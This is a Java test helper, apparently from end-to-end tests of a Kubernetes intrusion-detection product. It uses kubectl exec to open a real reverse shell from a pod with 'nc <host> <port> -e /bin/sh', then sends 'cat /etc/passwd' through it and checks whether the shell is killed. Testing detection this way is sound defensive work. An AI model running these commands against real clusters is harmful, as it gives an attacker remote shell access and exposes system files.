package dev.interdict.e2e.cluster;

import dev.interdict.e2e.cluster.Attacked.Pod;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;

/** A real shell out of a pod to this machine's end of the cluster's bridge. */
final class ReverseShell implements AutoCloseable {
  private static final int ANSWER_MILLIS = 3000;
  private static final String HERE = "10.254.254.1";

  private final ServerSocket server;
  private final Socket socket;

  private ReverseShell(ServerSocket server, Socket socket) {
    this.server = server;
    this.socket = socket;
  }

  /** The attacker's, who has done nothing with it yet. */
  static ReverseShell into(Pod pod) throws Exception {
    ServerSocket server = new ServerSocket(0, 1, InetAddress.getByName(HERE));
    server.setSoTimeout((int) Attacked.LIMIT.toMillis());
    pod.kubectl(
        "exec",
        pod.name(),
        "--",
        "/bin/sh",
        "-c",
        "nc " + HERE + " " + server.getLocalPort() + " -e /bin/sh >/dev/null 2>&1 & sleep 0.2");
    return new ReverseShell(server, server.accept());
  }

  /** One that has looked at the passwords. */
  static ReverseShell lookingAround(Pod pod) throws Exception {
    ReverseShell shell = into(pod);
    shell.say("cat /etc/passwd");
    return shell;
  }

  void say(String command) throws IOException {
    socket.getOutputStream().write((command + "\n").getBytes(StandardCharsets.UTF_8));
    socket.getOutputStream().flush();
  }

  /** Whether the shell says anything more. */
  boolean answers(String command) throws IOException {
    socket.setSoTimeout(ANSWER_MILLIS);
    InputStream in = socket.getInputStream();
    try {
      in.skipNBytes(in.available());
      say(command);
      return in.read() >= 0;
    } catch (SocketTimeoutException e) {
      return false;
    } catch (IOException e) { // it was reset
      return false;
    }
  }

  @Override
  public void close() throws IOException {
    socket.close();
    server.close();
  }
}
